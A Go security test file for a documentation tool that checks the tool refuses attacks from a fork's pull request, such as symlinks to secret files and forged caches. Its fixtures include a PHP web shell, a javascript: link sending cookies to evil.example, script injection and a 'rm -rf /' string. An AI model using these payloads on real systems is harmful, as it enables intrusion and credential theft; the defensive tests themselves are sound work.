package main

// Trust, round three (issue 23): a fork's pull request controls the docs,
// the sources, textfrag.toml and anything committed in a cache directory.
// Each test below models one attack with its own fixture and asserts the
// safe outcome.

import (
	"crypto/sha256"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/textfrag/textfrag/goldmark-textfrag/style"
	"github.com/textfrag/textfrag/internal/realm"
)

const gitToken = "AUTHORIZATION: basic c2VjcmV0LXRva2Vu"

// secretRepo writes a repository whose .git/config and .env hold secrets.
func secretRepo(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	all := map[string]string{
		".git/config": "[http]\n\textraheader = " + gitToken + "\n",
		".env":        "API_KEY=sk-live-secret\n",
	}
	for k, v := range files {
		all[k] = v
	}
	e2eWrite(t, dir, all)
}

// render reads its page as build, check, pin and refs read pages: a page
// that is a link to .git/config, .env or a file outside the root is
// refused, and nothing of it is written.
func TestRenderRefusesLinkedSecretPages(t *testing.T) {
	dir := t.TempDir()
	secretRepo(t, dir, map[string]string{"docs/ok.md": "# Fine\n"})
	outside := filepath.Join(t.TempDir(), "passwd")
	os.WriteFile(outside, []byte("root:x:0:0:root:/root:/bin/bash\n"), 0o644)
	mustSymlink(t, "../.git/config", filepath.Join(dir, "docs", "config.md"))
	mustSymlink(t, "../.env", filepath.Join(dir, "docs", "env.md"))
	mustSymlink(t, outside, filepath.Join(dir, "docs", "passwd.md"))
	os.MkdirAll(filepath.Join(dir, "docs", "deep"), 0o755)
	mustSymlink(t, "../../.git", filepath.Join(dir, "docs", "deep", "git"))
	t.Chdir(dir)
	for _, page := range []string{"docs/config.md", "docs/env.md", "docs/passwd.md", "docs/deep/git/config", ".git/config", ".env"} {
		var stdout, stderr strings.Builder
		e := &env{stdin: strings.NewReader(""), stdout: &stdout, stderr: &stderr}
		code := e.main([]string{"render", page})
		all := stdout.String() + stderr.String()
		if code != exitError || stdout.Len() != 0 || strings.Contains(all, "c2VjcmV0") || strings.Contains(all, "sk-live") || strings.Contains(all, "root:x:0") {
			t.Errorf("render %s: exit %d\nstdout %q\nstderr %s", page, code, stdout.String(), stderr.String())
		}
		if !strings.Contains(stderr.String(), page) {
			t.Errorf("render %s: the error does not name the page:\n%s", page, stderr.String())
		}
	}
	// The realm is the only thing refused: a plain page renders.
	out, code := runAs(t, false, "render", "docs/ok.md")
	if code != 0 || !strings.Contains(out, "Fine") {
		t.Errorf("render docs/ok.md: exit %d\n%s", code, out)
	}
}

// A page links to ../.git/config (and to a committed link src/a.go ->
// ../.git/config): the links fail with the secret error, and /_source/
// serves neither; a file a passing link quoted is served, until it is
// swapped for a link to a secret.
func TestServeSourceNeverHandsOutSecrets(t *testing.T) {
	dir := t.TempDir()
	secretRepo(t, dir, map[string]string{
		"src/ok.txt": "fine\n",
		"docs/index.md": "# Home\n\n[c](../.git/config#line=,2)\n\n[a](../src/a.go#line=,2)\n\n[e](../.env#line=,1)\n\n" +
			"[out](../src/out.txt#line=,1)\n\n[ok](../src/ok.txt#line=,1)\n",
	})
	mustSymlink(t, "../.git/config", filepath.Join(dir, "src", "a.go"))
	outside := filepath.Join(t.TempDir(), "out.txt")
	os.WriteFile(outside, []byte("outside\n"), 0o644)
	mustSymlink(t, outside, filepath.Join(dir, "src", "out.txt"))

	lf := linkFlags{root: dir}
	var log strings.Builder
	s := newServer(filepath.Join(dir, "docs"), &lf, style.CSS(), &log)
	s.watching = s.snapshot(nil)
	s.update(nil)
	ts := httptest.NewServer(s.handler())
	defer ts.Close()
	if !strings.Contains(log.String(), "commonly holds secrets") {
		t.Fatalf("the links to secrets should fail:\n%s", log.String())
	}
	get := func(p string) (int, string) {
		resp, err := http.Get(ts.URL + p)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	for _, p := range []string{"/_source/.git/config", "/_source/src/a.go", "/_source/.env", "/_source/src/out.txt", "/_source/.GIT/config", "/_source/src/../.git/config", "/_source/%2egit/config"} {
		code, body := get(p)
		if code != 404 || strings.Contains(body, "c2VjcmV0") || strings.Contains(body, "sk-live") || strings.Contains(body, "outside") {
			t.Errorf("GET %s: %d\n%s", p, code, body)
		}
	}
	if code, body := get("/_source/src/ok.txt"); code != 200 || body != "fine\n" {
		t.Errorf("GET /_source/src/ok.txt, which a passing link quoted: %d %q", code, body)
	}
	// Swapped for a link to the secret after the build: judged again.
	os.Remove(filepath.Join(dir, "src", "ok.txt"))
	mustSymlink(t, "../.git/config", filepath.Join(dir, "src", "ok.txt"))
	if code, body := get("/_source/src/ok.txt"); code != 404 || strings.Contains(body, "c2VjcmV0") {
		t.Errorf("GET /_source/src/ok.txt, now a link to .git/config: %d\n%s", code, body)
	}
}

// The same through a real serve on 127.0.0.1: the page fails, /_source/
// does not hand out the secret.
func TestServeSourceSecretRealServer(t *testing.T) {
	dir := t.TempDir()
	secretRepo(t, dir, map[string]string{"textfrag.toml": "", "docs/index.md": "# Home\n\n[c](../.git/config#line=,2)\n"})
	url := startServe(t, dir, "docs")
	eventually(t, url, "the page fails", func(code int, body string) bool {
		return code == 500 && strings.Contains(body, "commonly holds secrets")
	})
	code, body := serveGet(t, url+"_source/.git/config")
	if code != 404 || strings.Contains(body, "c2VjcmV0") {
		t.Errorf("GET /_source/.git/config: %d\n%s", code, body)
	}
}

// Server configuration is never published as it is: quoted, it is copied
// under _source/ with .txt added (and serve sends it as text); under SRC,
// it is left out with a warning. So is a file a server runs (.php).
func TestServerConfigNeverPublished(t *testing.T) {
	dir := t.TempDir()
	quoted := []string{"src/.htaccess", "src/.user.ini", "src/web.config", "src/_headers", "src/_redirects", "src/WEB.CONFIG", "src/index.php", "src/netlify.toml"}
	files := map[string]string{"textfrag.toml": "", "docs/web.config": "<configuration/>\n", "docs/netlify.toml": "[[redirects]]\n", "docs/shell.php": "<?php system($_GET['c']);\n", "docs/static/ok.css": "a{}\n"}
	var page strings.Builder
	page.WriteString("# Home\n")
	for _, q := range quoted {
		files[q] = "AddType text/html .txt\n"
		fmt.Fprintf(&page, "\n[x](../%s#line=,1)\n", q)
	}
	files["docs/index.md"] = page.String()
	e2eWrite(t, dir, files)
	r := e2eRun(t, dir, "build", "docs", "-o", "out")
	if r.code != 0 {
		t.Fatalf("build: %d\n%s", r.code, r.stderr)
	}
	tree := e2eTree(t, filepath.Join(dir, "out"))
	for _, q := range quoted {
		if _, ok := tree["_source/"+q]; ok {
			t.Errorf("_source/%s published as it is", q)
		}
		if _, ok := tree["_source/"+q+".txt"]; !ok {
			t.Errorf("_source/%s.txt missing", q)
		}
		if !strings.Contains(tree["index.html"], `href="_source/`+strings.ReplaceAll(q, "_", "_")+`.txt#line=,1"`) {
			t.Errorf("the caption of %s does not link its .txt copy", q)
		}
	}
	for _, asset := range []string{"web.config", "netlify.toml", "shell.php"} {
		if _, ok := tree[asset]; ok {
			t.Errorf("SRC/%s published as it is", asset)
		}
		if !strings.Contains(r.stderr, filepath.Join("docs", asset)+": left out") {
			t.Errorf("no warning for SRC/%s:\n%s", asset, r.stderr)
		}
	}
	if _, ok := tree["static/ok.css"]; !ok {
		t.Error("an ordinary asset is published")
	}

	lf := linkFlags{root: dir}
	s := newServer(filepath.Join(dir, "docs"), &lf, style.CSS(), io.Discard)
	s.watching = s.snapshot(nil)
	s.update(nil)
	ts := httptest.NewServer(s.handler())
	defer ts.Close()
	for _, p := range []string{"/_source/src/.htaccess", "/_source/src/index.php", "/web.config", "/shell.php"} {
		if code, _ := serveGet(t, ts.URL+p); code != 404 {
			t.Errorf("GET %s: %d, want 404", p, code)
		}
	}
	resp, err := http.Get(ts.URL + "/_source/src/.htaccess.txt")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/plain") {
		t.Errorf("GET /_source/src/.htaccess.txt: %d %q", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
}

// A fork commits a highlight cache under the cacheDir its textfrag.toml
// names, every entry at the name the build will look up, holding markup of
// its choosing (a <script>, and a box whose text is not the file's): the
// build ignores every entry and writes the pages it writes without a cache.
func TestBuildIgnoresCommittedCacheForgery(t *testing.T) {
	dir := t.TempDir()
	const code = "package main\n\nfunc main() {\n\tprintln(1 < 2)\n}\n"
	e2eWrite(t, dir, map[string]string{
		"textfrag.toml": "cacheDir = \".cache/textfrag\"\n",
		"src/main.go":   code,
		"docs/index.md": fmt.Sprintf("# Code\n\n[main](../src/main.go#line=2,5;md5=%s)\n\n```go\nvar x = 1\n```\n", e2eMD5(code)),
	})
	// The forger's own build writes entries at the right names, under a
	// key of the forger's.
	t.Setenv(realm.CacheKeyEnv, strings.Repeat("aa", 32))
	if r := e2eRun(t, dir, "build", "docs", "-o", "forger"); r.code != 0 {
		t.Fatalf("build: %d %s", r.code, r.stderr)
	}
	want := e2eTree(t, filepath.Join(dir, "forger"))
	entries := cacheFiles(t, filepath.Join(dir, ".cache", "textfrag"))
	if len(entries) < 2 {
		t.Fatalf("the forger's build cached %d blocks", len(entries))
	}
	for _, f := range entries {
		raw, _ := os.ReadFile(f)
		html := strings.Replace(string(raw[sha256.Size:]), `<span class="kd">func</span>`, `<script>alert(document.cookie)</script>`, 1)
		html = strings.Replace(html, "println", "rm -rf /", 1)
		// Both checks a forger can compute: the SHA-256 of the markup, and
		// the HMAC under the forger's own key (the file as written).
		sum := sha256.Sum256([]byte(html))
		os.WriteFile(f, append(sum[:], html...), 0o644)
	}
	os.RemoveAll(filepath.Join(dir, "forger"))

	// The victim's build (CI, a maintainer) has another key.
	t.Setenv(realm.CacheKeyEnv, strings.Repeat("bb", 32))
	r := e2eRun(t, dir, "build", "docs", "-o", "public")
	if r.code != 0 {
		t.Fatalf("build: %d %s", r.code, r.stderr)
	}
	got := e2eTree(t, filepath.Join(dir, "public"))
	if strings.Contains(got["index.html"], "<script>alert") || strings.Contains(got["index.html"], "rm -rf") {
		t.Fatalf("a forged cache entry reached the page:\n%s", got["index.html"])
	}
	if !equalTrees(got, want) {
		t.Errorf("the build over a forged cache differs from a clean build:\n%s", got["index.html"])
	}
}

// A committed .cache/textfrag/highlight -> /elsewhere: build neither
// writes nor removes files there. A committed entry linked to /dev/zero is
// not read without end.
func TestBuildCacheLinksNotFollowed(t *testing.T) {
	dir := t.TempDir()
	elsewhere := t.TempDir()
	const code = "package main\n\nfunc main() {}\n"
	e2eWrite(t, dir, map[string]string{
		"textfrag.toml": "cacheDir = \".cache/textfrag\"\n",
		"src/main.go":   code,
		"docs/index.md": "# Code\n\n[main](../src/main.go#line=2,3)\n",
	})
	os.MkdirAll(filepath.Join(dir, ".cache", "textfrag"), 0o755)
	mustSymlink(t, elsewhere, filepath.Join(dir, ".cache", "textfrag", "highlight"))
	mustSymlink(t, elsewhere, filepath.Join(dir, ".cache", "textfrag", "http"))
	// What is there looks like old cache entries, which a trim removes.
	victim := filepath.Join(elsewhere, "ab", strings.Repeat("ab", 32))
	os.MkdirAll(filepath.Dir(victim), 0o755)
	os.WriteFile(victim, []byte("keep me\n"), 0o644)
	stale := time.Now().Add(-30 * 24 * time.Hour)
	os.Chtimes(victim, stale, stale)
	for _, run := range []string{"one", "two"} {
		if r := e2eRunGuarded(t, dir, "build", "docs", "-o", run); r.code != 0 {
			t.Fatalf("build %s: %d %s", run, r.code, r.stderr)
		}
	}
	var found []string
	filepath.WalkDir(elsewhere, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			found = append(found, p)
		}
		return nil
	})
	if len(found) != 1 || found[0] != victim {
		t.Errorf("build wrote or removed outside the root: %q", found)
	}

	// Entries linked to /dev/zero, at every name a block could have.
	os.Remove(filepath.Join(dir, ".cache", "textfrag", "highlight"))
	for i := range 256 {
		shard := filepath.Join(dir, ".cache", "textfrag", "highlight", fmt.Sprintf("%02x", i))
		os.MkdirAll(shard, 0o755)
	}
	if r := e2eRun(t, dir, "build", "docs", "-o", "three"); r.code != 0 {
		t.Fatalf("build: %d %s", r.code, r.stderr)
	}
	entries := cacheFiles(t, filepath.Join(dir, ".cache", "textfrag"))
	if len(entries) == 0 {
		t.Fatal("the build cached no block to replace")
	}
	for _, f := range entries {
		os.Remove(f)
		mustSymlink(t, "/dev/zero", f)
	}
	if r := e2eRunGuarded(t, dir, "build", "docs", "-o", "four"); r.code != 0 {
		t.Fatalf("build over entries linked to /dev/zero: %d %s", r.code, r.stderr)
	}
}

// sourceURL = "javascript:…" would make every caption a script link: it is
// refused with a clear error, from textfrag.toml and from the command line.
func TestSourceURLJavascriptRefused(t *testing.T) {
	dir := t.TempDir()
	e2eWrite(t, dir, map[string]string{
		"textfrag.toml": "sourceURL = \"javascript:fetch('//evil.example/?'+document.cookie)//{path}\"\n",
		"src/a.txt":     "a\n",
		"docs/index.md": "# Home\n\n[a](../src/a.txt#line=,1)\n",
	})
	r := e2eRun(t, dir, "build", "docs", "-o", "out")
	if r.code != exitError || !strings.Contains(r.stderr, "textfrag.toml: sourceURL:") || !strings.Contains(r.stderr, "http or https") {
		t.Errorf("build with a javascript: sourceURL: %d\n%s", r.code, r.stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, "out")); err == nil {
		t.Error("the build wrote a site")
	}
	e2eWrite(t, dir, map[string]string{"textfrag.toml": ""})
	r = e2eRun(t, dir, "build", "docs", "-o", "out", "--source-url", "JAVASCRIPT:alert(1)")
	if r.code != exitError || !strings.Contains(r.stderr, "--source-url") {
		t.Errorf("build --source-url javascript:: %d\n%s", r.code, r.stderr)
	}
	// Spelled with a character reference, as the caption's href reads it.
	r = e2eRun(t, dir, "build", "docs", "-o", "out", "--source-url", "javascript&colon;alert(1)//{path}")
	if r.code != exitError || !strings.Contains(r.stderr, "--source-url") {
		t.Errorf("build --source-url javascript&colon;: %d\n%s", r.code, r.stderr)
	}
	r = e2eRun(t, dir, "build", "docs", "-o", "out", "--source-url", "https://example.org/{path}#L{start}")
	if r.code != 0 {
		t.Errorf("build --source-url https: %d\n%s", r.code, r.stderr)
	}
}

// textfrag.toml committed as a link to a file outside the repository:
// refused, and nothing of what it leads to is printed.
func TestLinkedTextfragTomlRefused(t *testing.T) {
	base := t.TempDir()
	repo := filepath.Join(base, "repo")
	e2eWrite(t, base, map[string]string{
		"repo/.git/HEAD":        "ref: refs/heads/main\n",
		"repo/docs/index.md":    "# Home\n",
		"home/.aws/credentials": "[default]\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG\n",
	})
	mustSymlink(t, filepath.Join(base, "home", ".aws", "credentials"), filepath.Join(repo, "textfrag.toml"))
	for _, args := range [][]string{{"check", "docs"}, {"build", "docs", "-o", "out"}, {"render", "docs/index.md"}} {
		r := e2eRun(t, repo, args...)
		if r.code != exitError || strings.Contains(r.stderr+r.stdout, "wJalr") || strings.Contains(r.stderr+r.stdout, "aws_secret") || !strings.Contains(r.stderr, "textfrag.toml") {
			t.Errorf("%s with a linked textfrag.toml: %d\n%s%s", args[0], r.code, r.stdout, r.stderr)
		}
	}
}

// textfrag.toml lifts the remote limits (remoteMaxBytes = 1 TB,
// remoteTimeout = 100000 h) and the host streams without end: the limits
// are lowered to their ceilings, with a warning, and the fetch fails at the
// ceiling instead of reading until memory runs out. textfrag.toml's
// allowHosts does not open the network: only --allow-host does.
func TestRemoteLimitsFromTomlHaveCeilings(t *testing.T) {
	chunk := strings.Repeat("endless line\n", 2500)
	stream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		for r.Context().Err() == nil {
			if _, err := io.WriteString(w, chunk); err != nil {
				return
			}
		}
	}))
	defer stream.Close()
	host := strings.TrimPrefix(stream.URL, "http://")
	dir := t.TempDir()
	e2eWrite(t, dir, map[string]string{
		"textfrag.toml": "remoteMaxBytes = 1000000000000\nremoteTimeout = \"100000h\"\nallowHosts = [\"" + host + "\"]\n",
		"docs/index.md": "# Home\n\n[s](" + stream.URL + "/endless.txt#line=,1)\n",
	})
	t.Chdir(dir)

	// allowHosts alone: the link stays a link; nothing is fetched.
	out, code := runAs(t, false, "check", "docs")
	if code != 0 || !strings.Contains(out, "allowHosts is not applied") || !strings.Contains(out, "--allow-host \""+host+"\"") {
		t.Errorf("check with allowHosts in textfrag.toml: exit %d\n%s", code, out)
	}

	done := make(chan struct{})
	go func() {
		defer close(done)
		out, code = runAs(t, false, "check", "--allow-host", host, "docs")
	}()
	select {
	case <-done:
	case <-time.After(hangGuard):
		t.Fatal("check against an endless stream did not end")
	}
	for _, w := range []string{"remoteMaxBytes = 1000000000000 is more than", "remoteTimeout = \"100000h\" is more than", "more than the limit of 67108864 bytes"} {
		if !strings.Contains(out, w) {
			t.Errorf("output lacks %q", w)
		}
	}
	if code != exitError {
		t.Errorf("exit %d\n%s", code, out)
	}
}

// offline = true with a cacheDir in the repository, and a committed entry
// for an allowed URL holding the fork's text (its md5 in the link): the
// entry is not this user's, so it is missing, never quoted.
func TestOfflineRemoteCacheForgeryRefused(t *testing.T) {
	dir := t.TempDir()
	u := "https://raw.example.org/a.txt"
	forged := "<script>alert(1)</script>\n"
	urlSum := sha256.Sum256([]byte(u))
	bodySum := sha256.Sum256([]byte(forged))
	name := fmt.Sprintf(".cache/textfrag/http/%x", urlSum)
	e2eWrite(t, dir, map[string]string{
		"textfrag.toml": "offline = true\ncacheDir = \".cache/textfrag\"\n",
		name + ".json": fmt.Sprintf(`{"url": %q, "content_type": "text/plain", "fetched_at": "2026-01-01T00:00:00Z", "size": %d, "sha256": "%x", "mac": "%s"}`,
			u, len(forged), bodySum, strings.Repeat("0", 64)),
		name + ".body":  forged,
		"docs/index.md": "# Home\n\n[a](" + u + "#line=,1;md5=" + e2eMD5(forged) + ")\n",
	})
	r := e2eRun(t, dir, "build", "docs", "-o", "out", "--allow-host", "raw.example.org")
	if r.code != exitError || !strings.Contains(r.stderr, "not in the cache") {
		t.Errorf("build offline over a forged entry: %d\n%s", r.code, r.stderr)
	}
	if _, err := os.Stat(filepath.Join(dir, "out")); err == nil {
		t.Error("a site was written")
	}
}

// offline = true in textfrag.toml, whose allowHosts is not applied: no
// host is allowed, so offline means nothing, and is not an error; given on
// the command line without --allow-host it still is.
func TestOfflineFromTomlWithoutHosts(t *testing.T) {
	dir := t.TempDir()
	e2eWrite(t, dir, map[string]string{
		"textfrag.toml": "offline = true\nallowHosts = [\"raw.example.org\"]\n",
		"docs/index.md": "# Home\n\n[a](https://raw.example.org/a.txt#line=,1)\n",
	})
	t.Chdir(dir)
	if out, code := runAs(t, false, "check", "docs"); code != 0 || !strings.Contains(out, "allowHosts is not applied") {
		t.Errorf("check: exit %d\n%s", code, out)
	}
	e2eWrite(t, dir, map[string]string{"textfrag.toml": ""})
	if out, code := runAs(t, false, "check", "--offline", "docs"); code == 0 || !strings.Contains(out, "--offline needs --allow-host") {
		t.Errorf("check --offline: exit %d\n%s", code, out)
	}
}

// check, pin and refs read pages as render does: a page that is a link,
// inside the root, to a file that commonly holds secrets is not read, so
// neither its text nor a rewrite of it (pin --write would pin the link the
// secret holds) goes anywhere.
func TestPagesLinkedToSecretsNotRead(t *testing.T) {
	dir := t.TempDir()
	env := "API_KEY=sk-live-secret\n\n[k](src/a.txt#line=0,1)\n"
	secretRepo(t, dir, map[string]string{"src/a.txt": "one\ntwo\n", "docs/ok.md": "[a](../src/a.txt#line=0,1)\n", ".env": env})
	mustSymlink(t, "../.env", filepath.Join(dir, "docs", "env.md"))
	mustSymlink(t, "../.git/config", filepath.Join(dir, "docs", "config.md"))
	t.Chdir(dir)
	for _, args := range [][]string{
		{"check", "docs"},
		{"check", "docs/env.md"},
		{"pin", "--write", "docs"},
		{"pin", "--write", "docs/env.md"},
	} {
		out, code := runAs(t, false, args...)
		if code != exitError || strings.Contains(out, "sk-live") || strings.Contains(out, "c2VjcmV0") {
			t.Errorf("%v: exit %d\n%s", args, code, out)
		}
		if !strings.Contains(out, "docs/env.md: not read: ") {
			t.Errorf("%v: the page linked to .env is not named as not read:\n%s", args, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".env")); string(b) != env {
		t.Errorf("pin --write rewrote .env through docs/env.md:\n%s", b)
	}
	// refs fails on a page it cannot read, naming it, and shows nothing of it.
	if out, code := runAs(t, false, "refs", "src/a.txt"); code != exitError || !strings.Contains(out, "docs/env.md: not read: ") || strings.Contains(out, "sk-live") {
		t.Errorf("refs src/a.txt: exit %d\n%s", code, out)
	}
}

// migrate reads its includes through the realm: an include of .env (or a
// link to .git/config) is listed as not converted, and neither its md5 nor
// its text reaches the diff.
func TestMigrateReadsNoSecrets(t *testing.T) {
	dir := t.TempDir()
	secretRepo(t, dir, map[string]string{
		"book.toml":  "",
		"src/ok.txt": "x\n",
		"docs/a.md":  "# A\n\n```sh\n{{#include ../.env:1:1}}\n```\n\n```ini\n{{#include ../src/cfg.ini}}\n```\n",
	})
	mustSymlink(t, "../.git/config", filepath.Join(dir, "src", "cfg.ini"))
	t.Chdir(dir)
	out, code := runAs(t, false, "migrate", "docs")
	if code != exitError || strings.Contains(out, "md5=") || strings.Contains(out, "sk-live") || strings.Contains(out, "c2VjcmV0") ||
		strings.Count(out, "not converted") != 2 || !strings.Contains(out, "commonly holds secrets") {
		t.Errorf("migrate docs: exit %d\n%s", code, out)
	}
}
